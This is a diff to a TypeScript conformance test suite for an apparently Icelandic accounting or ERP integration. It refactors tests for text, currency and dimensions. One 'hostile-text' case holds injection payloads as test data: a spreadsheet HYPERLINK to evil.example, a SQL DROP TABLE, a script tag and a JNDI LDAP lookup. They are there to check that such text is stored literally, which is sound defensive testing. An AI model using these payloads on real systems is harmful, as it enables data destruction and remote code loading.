@@ -5,6 +5,7 @@ import {
   assertInBooksOnce,
   assertRejected,
   assertSame,
+  assertTextKept,
   type CaseWorld,
   type ConformanceCase,
   onlyEntry,
@@ -51,27 +52,22 @@ export const CONTENT_CASES: readonly ConformanceCase[] = [
   },
   {
     id: 'icelandic-letters',
-    title: 'takes every Icelandic letter',
-    run: (world) =>
-      assertReadsBack(
-        world,
-        sale(world.chart, {
-          text: 'Þjónusta við hæð, ýsa, ál og sígó: áéíóúýþæöð ÁÉÍÓÚÝÞÆÖÐ',
-          description: 'Kæmi ný öxi hér, ykist þjófum nú bæði víl og ádrepa',
-        }),
-      ),
+    title: 'keeps every Icelandic letter',
+    run: async (world) => {
+      const text = 'áéíóúýþæöðÁÉÍÓÚÝÞÆÖÐ';
+      const description = 'Kæmi ný öxi hér, ykist þjófum nú bæði víl og ádrepa';
+      await assertKeepsText(world, text, description);
+    },
   },
   {
     id: 'hostile-text',
     title: 'is not led astray by what a customer writes into a text',
-    run: (world) =>
-      assertReadsBack(
-        world,
-        sale(world.chart, {
-          text: '=HYPERLINK("http://evil.example") \'; DROP TABLE x;-- <script>[2020-01-01] date:2020-01-01\n2020-01-01 * x',
-          description: '"); } ${jndi:ldap://x} %s %n \\ " \u0000\u2028 ☃ 🐟 [=2019-01-01]',
-        }),
-      ),
+    run: async (world) => {
+      const text =
+        '=HYPERLINK("http://evil.example") \'; DROP TABLE x;-- <script>[2020-01-01] date:2020-01-01\n2020-01-01 * x';
+      const description = '"); } ${jndi:ldap://x} %s %n \\ " \u0000\u2028 ☃ 🐟 [=2019-01-01]';
+      await assertKeepsText(world, text, description);
+    },
   },
   {
     id: 'two-decimals',
@@ -84,17 +80,21 @@ export const CONTENT_CASES: readonly ConformanceCase[] = [
   },
   {
     id: 'foreign-currency',
-    title: 'books a foreign document in its currency and in ISK',
-    exempt: (capabilities) => (capabilities.foreignCurrency ? null : 'declares ISK only'),
-    run: (world) => assertReadsBack(world, foreignSale(world.chart)),
+    title: 'books a foreign document in its currency and in ISK, or refuses it where it declares ISK only',
+    run: (world) => {
+      const journal = foreignSale(world.chart);
+      if (world.erp.capabilities.foreignCurrency) return assertReadsBack(world, journal);
+      return assertRejected(world, journal, freshKey(), ['unsupported']);
+    },
   },
   {
     id: 'dimensions',
-    title: 'books dimensions on the lines that carry them',
-    exempt: undimensioned,
+    title: 'books dimensions on the lines that carry them, or refuses them where it declares none',
     run: (world) => {
       const { name, value } = world.chart.dimension;
-      return assertReadsBack(world, sale(world.chart, { dimensions: { [name]: value } }));
+      const journal = sale(world.chart, { dimensions: { [name]: value } });
+      if (world.erp.capabilities.dimensions) return assertReadsBack(world, journal);
+      return assertRejected(world, journal, freshKey(), ['unsupported']);
     },
   },
   {
@@ -107,28 +107,20 @@ export const CONTENT_CASES: readonly ConformanceCase[] = [
       return assertRejected(world, journal, freshKey(), ['unknown-dimension']);
     },
   },
-  {
-    id: 'new-party-once',
-    title: 'creates a new customer once, although two of its documents come at once',
-    exempt: (capabilities) => (capabilities.subledger ? null : 'declares no partners'),
-    run: async (world) => {
-      const { newCustomer } = world.chart;
-      const [one, two] = [freshKey(), freshKey()];
-      const journal = () => sale(world.chart, { customer: newCustomer });
-      await Promise.all([posted(world.erp, one, journal()), posted(world.erp, two, journal())]);
-      await posted(await world.another(), freshKey(), journal());
-      assert.equal(await world.bed.countParties?.(newCustomer.kennitala), 1);
-    },
-  },
 ];
 
-async function assertReadsBack(world: CaseWorld, journal: Journal): Promise<void> {
-  const key = freshKey();
+async function assertReadsBack(world: CaseWorld, journal: Journal, key = freshKey()): Promise<void> {
   await posted(world.erp, key, journal);
   await assertInBooksOnce(world, key);
   if (blind(world.erp.capabilities) !== null) return;
   const survivor = await world.another();
   assertSame(survivor, journal, await onlyEntry(survivor, key));
+}
+
+async function assertKeepsText(world: CaseWorld, text: string, description: string): Promise<void> {
+  const key = freshKey();
+  await assertReadsBack(world, sale(world.chart, { text, description }), key);
+  await assertTextKept(world, key, text);
 }
 
 function undimensioned(capabilities: ErpCapabilities): string | null {
